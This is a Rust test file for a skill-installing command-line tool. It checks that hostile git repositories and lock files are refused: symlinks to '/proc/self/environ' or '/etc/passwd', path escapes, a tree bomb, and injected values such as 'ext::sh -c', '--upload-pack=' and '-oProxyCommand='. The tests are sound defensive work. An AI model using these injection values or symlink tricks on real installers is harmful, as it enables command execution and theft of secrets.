    std::fs::create_dir_all(&outside).unwrap();
    let host_file = outside.join("secret.txt");
    std::fs::write(
        &host_file,
        format!("---\nname: leak\ndescription: {secret}\n---\n{secret}\n"),
    )
    .unwrap();
    let env = [("BOTERNITY_TEST_CANARY", env_secret)];
    let store = tmp.path().join("store");
    let local = tmp.path().join("local/docx");
    prompt_skill(&local, "docx", "A local docx.");
    ok(cli(&store, &["install", local.to_str().unwrap()]));

    let repo_with = |name: &str, link: &str| -> String {
        let work = tmp.path().join(name);
        prompt_skill(&work.join("skills/fine"), "fine", "A fine skill.");
        let leak = work.join("skills/leak");
        std::fs::create_dir_all(&leak).unwrap();
        std::os::unix::fs::symlink(link, leak.join("SKILL.md")).unwrap();
        write(
            &leak.join("secret.md"),
            &format!("---\nname: leak\ndescription: {secret}\n---\n"),
        );
        git(&work, &["init", "-q", "-b", "main"]);
        git(&work, &["add", "-A"]);
        git(&work, &["commit", "-q", "-m", "leak"]);
        file_url(&work)
    };
    let cases = [
        (
            "host-file",
            host_file.to_str().unwrap().to_string(),
            "is absolute",
        ),
        ("environ", "/proc/self/environ".to_string(), "is absolute"),
        (
            "environ-relative",
            "../../../../../../../../../../../../proc/self/environ".to_string(),
            "leads out of the repository",
        ),
    ];
    for (name, link, rule) in &cases {
        let url = repo_with(name, link);
        for args in [
            &[
                "install",
                "--git",
                &url,
                "--list",
                "--message-format",
                "json",
            ][..],
            &["install", "--git", &url, "--list"],
            &["install", "--git", &url, "leak"],
        ] {
            let text = refused_hostile(
                tmp.path(),
                &store,
                args,
                &env,
                &["the symlink `skills/leak/SKILL.md`", rule],
            );
            assert!(
                !text.contains(secret) && !text.contains(env_secret),
                "{name}: leaked:\n{text}"
            );
        }
    }

    // A link that stays inside the skill folder: the tree is fine, but
    // SKILL.md must be a regular file, so it is listed with the rule as its
    // error and never installed; the other skill still is.
    let url = repo_with("inside", "secret.md");
    let rule = "SKILL.md is a symlink; it must be a regular file inside the skill folder";
    let tmpdir = tmp.path().join("tmpdir");
    let out = cli_in(
        &store,
        &tmpdir,
        &env,
        &[
            "install",
            "--git",
            &url,
            "--list",
            "--message-format",
            "json",
        ],
    );
    let text = format!("{}\n{}", stdout(&out), stderr(&out));
    assert!(out.status.success(), "{text}");
    assert!(
        !text.contains(secret) && !text.contains(env_secret),
        "leaked:\n{text}"
    );
    let lines = json_lines(&out);
    let leak = lines
        .iter()
        .find(|l| l["path"] == "skills/leak")
        .expect("listed");
    assert!(
        leak["manifest_error"]
            .as_str()
            .unwrap_or_default()
            .contains(rule),
        "{leak}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l["name"] == "fine" && l["manifest_error"].is_null())
    );
    let text = refused_hostile(
        tmp.path(),
        &store,
        &["install", "--git", &url, "leak"],
        &env,
        &[rule],
    );
    assert!(
        !text.contains(secret) && !text.contains(env_secret),
        "leaked:\n{text}"
    );
    ok(cli(&store, &["install", "--git", &url, "fine"]));
    assert!(
        !std::fs::read_to_string(store.join("skills/fine/SKILL.md"))
            .unwrap()
            .contains(secret)
    );
    assert!(!store.join("skills/leak").exists());
}

#[test]
fn a_tree_bomb_is_refused_in_well_under_a_second_and_nothing_is_written() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = plumbing_repo(tmp.path(), "bomb");
    let payload = blob(&repo, b"x\n");
    let names: Vec<Vec<u8>> = (0..10).map(|i| format!("d{i}").into_bytes()).collect();
    // Two files, then five levels of ten folders that are all the same
    // tree: a few hundred bytes of objects, 200,000 files once expanded.
    let mut tree = mktree(
        &repo,
        &[("100644", &payload, b"f0"), ("100644", &payload, b"f1")],
    );
    for _ in 0..5 {
        let entries: Vec<(&str, &str, &[u8])> = names
            .iter()
            .map(|n| ("040000", tree.as_str(), n.as_slice()))
            .collect();
        tree = mktree(&repo, &entries);
    }
    let skills = skills_tree(&repo, "decoy");
    let root = mktree(
        &repo,
        &[("040000", &tree, b"bomb"), ("040000", &skills, b"skills")],
    );
    commit_main(&repo, &root);
    let objects: u64 = std::fs::read_dir(repo.join(".git/objects"))
        .unwrap()
        .flatten()
        .flat_map(|d| std::fs::read_dir(d.path()).into_iter().flatten().flatten())
        .map(|f| f.metadata().unwrap().len())
        .sum();
    assert!(
        objects < 32 * 1024,
        "the bomb is {objects} bytes of objects"
    );

    let url = file_url(&repo);
    let store = tmp.path().join("store");
    for args in [
        &["install", "--git", &url, "--list"][..],
        &["install", "--git", &url, "--all"],
    ] {
        let started = Instant::now();
        let text = refused_hostile(
            tmp.path(),
            &store,
            args,
            &[],
            &[
                "the tree in",
                "is unsafe",
                "entries",
                "over the cap of 50000",
            ],
        );
        let took = started.elapsed();
        assert!(
            // Counted from the tree objects, not written out: generous for a
            // loaded machine, far below writing 311,114 entries.
            took < Duration::from_secs(30),
            "{args:?} took {took:?}:\n{text}"
        );
        // The count it would expand to: 200,000 files and 111,110 folders
        // below `bomb`, `bomb` itself, and the decoy's three entries.
        assert!(text.contains("it holds 311114 entries"), "{text}");
    }
}

#[test]
fn a_symlink_that_is_absolute_or_leaves_the_repository_is_refused_before_anything_is_written() {
    let tmp = tempfile::tempdir().unwrap();
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("keep"), "kept\n").unwrap();
    let before = listing(&outside);
    let store = tmp.path().join("store");
    let cases: [(&str, &str, String, &str); 4] = [
        (
            "absolute-dir",
            "skills/x/data",
            outside.display().to_string(),
            "is absolute",
        ),
        (
            "absolute-file",
            "notes",
            "/etc/passwd".into(),
            "is absolute",
        ),
        (
            "escaping",
            "skills/x/up",
            "../../../outside".into(),
            "leads out of the repository",
        ),
        (
            "escaping-root",
            "up",
            "..".into(),
            "leads out of the repository",
        ),
    ];
    for (name, link, target, rule) in &cases {
        let work = tmp.path().join(name);
        prompt_skill(&work.join("skills/x"), "x", "A skill.");
        let at = work.join(link);
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, &at).unwrap();
        git(&work, &["init", "-q", "-b", "main"]);
        git(&work, &["add", "-A"]);
        git(&work, &["commit", "-q", "-m", "link"]);
        let url = file_url(&work);
        for args in [
            &["install", "--git", &url, "--list"][..],
            &["install", "--git", &url, "x"],
        ] {
            refused_hostile(
                tmp.path(),
                &store,
                args,
                &[],
                &[
                    &format!("the symlink `{link}`"),
                    &format!("`{target}`"),
                    rule,
                ],
            );
        }
        assert_eq!(listing(&outside), before);
    }
    assert!(!store.exists());

    // Links that stay inside still work: within a skill folder (installed
    // as the file they point to), and between folders of the repository.
    let work = tmp.path().join("fine");
    prompt_skill(&work.join("skills/x"), "x", "A skill.");
    write(
        &work.join("skills/x/scripts/run.sh"),
        "#!/bin/sh\necho run\n",
    );
    std::os::unix::fs::symlink("scripts/run.sh", work.join("skills/x/run")).unwrap();
    std::os::unix::fs::symlink("skills/x", work.join("x-alias")).unwrap();
    git(&work, &["init", "-q", "-b", "main"]);
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "fine"]);
    ok(cli(&store, &["install", "--git", &file_url(&work), "x"]));
    assert_eq!(
        std::fs::read_to_string(store.join("skills/x/run")).unwrap(),
        "#!/bin/sh\necho run\n"
    );
}

#[test]
fn a_hostile_skills_lock_is_refused_before_git_runs_and_the_store_is_unchanged() {
    let tmp = tempfile::tempdir().unwrap();
    // Prompt skills only: nothing here needs a build.
    let work = tmp.path().join("work");
    prompt_skill(&work.join("skills/docx"), "docx", "Write Word files.");
    prompt_skill(&work.join("skills/pdf"), "pdf", "Read PDFs.");
    git(&work, &["init", "-q", "-b", "main"]);
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "one"]);
    let url = file_url(&work);
    let a = tmp.path().join("a");
    ok(cli(&a, &["install", "--git", &url, "docx"]));
    let lock = std::fs::read_to_string(a.join("skills.lock")).unwrap();
    let commit = git(&work, &["rev-parse", "HEAD"]);
    assert!(lock.contains(&format!("url = \"{url}\"")), "{lock}");
    assert!(lock.contains(&format!("commit = \"{commit}\"")), "{lock}");

    // A store with something in it, so "unchanged" means something.
    let b = tmp.path().join("b");
    let local = tmp.path().join("local/pdf");
    prompt_skill(&local, "pdf", "A local pdf.");
    ok(cli(&b, &["install", local.to_str().unwrap()]));

    let marker = tmp.path().join("pwned");
    let m = marker.display().to_string();
    let cases: Vec<(&str, String, String, &str)> = vec![
        (
            "ext",
            format!("url = \"{url}\""),
            format!("url = \"ext::sh -c touch% {m}\""),
            "`ext::` runs a remote helper",
        ),
        (
            "upload-pack",
            format!("url = \"{url}\""),
            format!("url = \"--upload-pack=touch {m}\""),
            "starts with `-`",
        ),
        (
            "ssh-option",
            format!("url = \"{url}\""),
            format!("url = \"ssh://-oProxyCommand=touch {m}/r\""),
            "its host starts with `-`",
        ),
        (
            "head",
            format!("commit = \"{commit}\""),
            "commit = \"HEAD\"".into(),
            "`HEAD` is not a full commit id",
        ),
        (
            "option",
            format!("commit = \"{commit}\""),
            format!("commit = \"--output={m}\""),
            "is not a full commit id",
        ),
        (
            "short",
            format!("commit = \"{commit}\""),
            "commit = \"0f1e2d\"".into(),
            "`0f1e2d` is not a full commit id",
        ),
        (
            "dotdot",
            "path = \"skills/docx\"".into(),
            "path = \"../../../etc\"".into(),
            "leads outside the repository",
        ),
        (
            "ref",
            "[skills.docx]".into(),
            "[skills.docx]\nref = \"--upload-pack=x\"".into(),
            "is not a ref boternity records",
        ),
    ];
    for (name, from, to, rule) in &cases {
        assert!(
            lock.contains(from.as_str()),
            "{name}: `{from}` not in the lock"
        );
        let hostile = tmp.path().join(format!("{name}.lock"));
        std::fs::write(&hostile, lock.replacen(from.as_str(), to, 1)).unwrap();
        refused(
            &b,
            &["sync", "--lock", hostile.to_str().unwrap()],
            &[
                &format!("{name}.lock: the entry of `docx` is refused"),
                rule,
            ],
        );
        assert!(!marker.exists(), "{name}: the lock ran a command");
    }

    // The same checks hold for a provenance record that `outdated` and
    // `update` read: an edited URL is refused, nothing is run.
    let record = a.join("skills/docx/.boternity-provenance.json");
    let mut json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&record).unwrap()).unwrap();
    json["origin"]["url"] = format!("ext::sh -c touch% {m}").into();
    std::fs::write(&record, serde_json::to_vec_pretty(&json).unwrap()).unwrap();
    let out = ok(cli(&a, &["outdated", "--message-format", "json"]));
    let line = &json_lines(&out)[0];
    assert_eq!(line["status"], "unknown", "{line}");
    assert!(
        line["error"]
            .as_str()
            .unwrap()
            .contains("runs a remote helper"),
        "{line}"
    );
    let before = snapshot(&a.join("skills"));
    let out = cli(&a, &["update", "docx"]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("runs a remote helper"),
        "{}",
        stderr(&out)
    );
    assert_eq!(snapshot(&a.join("skills")), before);
    assert!(!marker.exists(), "a provenance record ran a command");
}

/// A git install of several skills, and a sync, commit all of them or none:
/// with the third skill broken, the first two (newer commits of installed
/// skills) are not installed either, and the store stays byte for byte.
#[test]
fn a_git_install_or_sync_of_several_skills_commits_all_or_none() {
    let tmp = tempfile::tempdir().unwrap();
    let work = tmp.path().join("three");
    std::fs::create_dir_all(&work).unwrap();
    git(&work, &["init", "-q", "-b", "main"]);
    prompt_skill(&work.join("skills/one"), "one", "First, version 1.");
    prompt_skill(&work.join("skills/two"), "two", "Second, version 1.");
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "v1"]);
    let url = file_url(&work);
    let store = tmp.path().join("store");
    ok(cli(&store, &["install", "--git", &url, "--all"]));
    let lock_v1 = std::fs::read(store.join("skills.lock")).unwrap();

    // Version 2 of both, and a third skill whose shipped binary is not
    // WebAssembly: it fails after the first two are prepared.
    prompt_skill(&work.join("skills/one"), "one", "First, version 2.");
    prompt_skill(&work.join("skills/two"), "two", "Second, version 2.");
    let broken = work.join("skills/three");
    write(
        &broken.join("SKILL.md"),
        "---\nname: three\ndescription: Broken.\nmetadata:\n  skill-type: tool\n---\nBroken.\n",
    );
    std::fs::write(
        broken.join("skill.wasm"),
        b"\0asm\x0d\0\x01\0 not a component",
    )
    .unwrap();
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "v2"]);
    refused(
        &store,
        &["install", "--git", &url, "--all"],
        &["cannot install `three`"],
    );
    let body = |name: &str| {
        std::fs::read_to_string(store.join("skills").join(name).join("SKILL.md")).unwrap()
    };
    assert!(body("one").contains("version 1"));
    assert!(body("two").contains("version 1"));

    // Without the broken one, both move.
    ok(cli(&store, &["install", "--git", &url, "one", "two"]));
    assert!(body("one").contains("version 2") && body("two").contains("version 2"));

    // sync back to the v1 lock, with `two`'s entry tampered: neither moves.
    let text = String::from_utf8(lock_v1).unwrap();
    let tampered = tmp.path().join("tampered.lock");
    std::fs::write(&tampered, with_wrong_skill_md_hash(&text, "two")).unwrap();
    refused(
        &store,
        &["sync", "--lock", tampered.to_str().unwrap()],
        &["`two` does not match the lock"],
    );
    assert!(body("one").contains("version 2") && body("two").contains("version 2"));
    // The untampered lock moves both back.
    let good = tmp.path().join("v1.lock");
    std::fs::write(&good, &text).unwrap();
    ok(cli(&store, &["sync", "--lock", good.to_str().unwrap()]));
    assert!(body("one").contains("version 1") && body("two").contains("version 1"));
}
